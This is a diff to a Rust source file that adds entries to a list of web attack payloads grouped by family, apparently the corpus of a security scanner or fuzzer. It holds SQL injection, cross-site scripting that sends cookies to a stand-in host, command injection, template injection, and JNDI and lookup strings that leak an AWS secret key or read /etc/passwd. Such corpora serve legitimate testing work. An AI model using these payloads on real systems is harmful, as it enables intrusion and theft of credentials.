@@ -39,6 +39,8 @@ pub const FAMILIES: &[Family] = &[
             "1';COPY (SELECT '') TO PROGRAM 'id'--",
             "1 OR TRUE",
             "2) AND NOT FALSE-- -",
+            "1 AND password>0x6d",
+            "0 OR id>0",
         ],
     },
     Family {
@@ -61,6 +63,8 @@ pub const FAMILIES: &[Family] = &[
             "top[/al/.source+/ert/.source](1)",
             "[document.domain].find(alert)",
             "import('//203.0.113.9/x.js')",
+            "'-setTimeout(name)-'",
+            "\")||fetch('//203.0.113.9/'+document.cookie)||(\"",
         ],
     },
     Family {
@@ -81,6 +85,8 @@ pub const FAMILIES: &[Family] = &[
             "127.0.0.1\nenv;",
             "=cmd|' /C calc'!A0",
             "a;X=$'\\x69\\x64';$X",
+            "203.0.113.7\nsleep 5",
+            "; msbuild x.xml",
         ],
     },
     Family {
@@ -205,6 +211,7 @@ pub const FAMILIES: &[Family] = &[
             "<esi:include src=\"http://203.0.113.9/x\"/>",
             "${{<%[%'\"}}%\\.",
             "*{7*7}",
+            "<%= open('|id').read %>",
         ],
     },
     Family {
@@ -258,6 +265,8 @@ pub const FAMILIES: &[Family] = &[
             "#{T(java.lang.Runtime).getRuntime().exec('id')}",
             "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
             "${jndi:dns://203.0.113.5/${env:AWS_SECRET_ACCESS_KEY}}",
+            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+            "${file:UTF-8:/etc/passwd}",
         ],
     },
     // Redirect targets a check reads as this site's path or name and a
